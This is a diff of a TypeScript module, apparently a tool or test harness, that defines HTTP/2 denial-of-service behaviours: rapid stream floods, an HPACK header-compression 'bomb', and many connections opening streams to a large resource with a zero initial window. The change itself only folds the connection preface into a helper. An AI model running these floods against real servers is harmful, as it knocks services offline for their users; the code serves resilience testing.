@@ -6,10 +6,9 @@ import {
   field,
   frame,
   frameTypes,
+  greeting,
   indexedField,
-  preface,
   requestFields,
-  settingsAck,
   settingsFrame,
   windowUpdate,
   word,
@@ -26,7 +25,7 @@ function streams(count: number, from: number, one: (stream: number) => Buffer): 
 /** Opens streams over and over, as fast as they are taken. */
 function flood(socket: net.Socket, one: (stream: number) => Buffer, perTurn = 100): void {
   let next = 1;
-  socket.write(Buffer.concat([preface, settingsFrame(), settingsAck]));
+  socket.write(greeting());
   const go = (): void => {
     while (!socket.destroyed && next < 2 ** 31 - 2 * perTurn) {
       const bytes = streams(perTurn, next, one);
@@ -43,7 +42,7 @@ export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> 
   const request = requestFields(host);
   const upload = requestFields(host, '/', 'POST');
   const open = (stream: number): Buffer => frame(frameTypes.headers, endHeaders | endStream, stream, request);
-  const started = Buffer.concat([preface, settingsFrame(), settingsAck]);
+  const started = greeting();
   const repeated = (bytes: Buffer) => (socket: net.Socket) => {
     socket.write(started);
     pour(socket, Buffer.concat(Array.from({ length: Math.ceil(16_384 / bytes.length) }, () => bytes)));
@@ -93,7 +92,7 @@ export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> 
           entry,
           ...Array.from({ length: 60 }, () => indexedField(62)),
         ]);
-        socket.write(Buffer.concat([preface, settingsFrame({ 4: 0 }), settingsAck]));
+        socket.write(greeting({ 4: 0 }));
         socket.write(streams(250, 1, (stream) => frame(frameTypes.headers, endHeaders | endStream, stream, bomb)));
       },
       tick: (socket) => socket.write(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
@@ -102,7 +101,7 @@ export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> 
       ...few,
       connections: 200,
       opened(socket) {
-        socket.write(Buffer.concat([preface, settingsFrame({ 4: 0 }), settingsAck]));
+        socket.write(greeting({ 4: 0 }));
         const asking = requestFields(host, '/large');
         socket.write(streams(250, 1, (stream) => frame(frameTypes.headers, endHeaders | endStream, stream, asking)));
       },
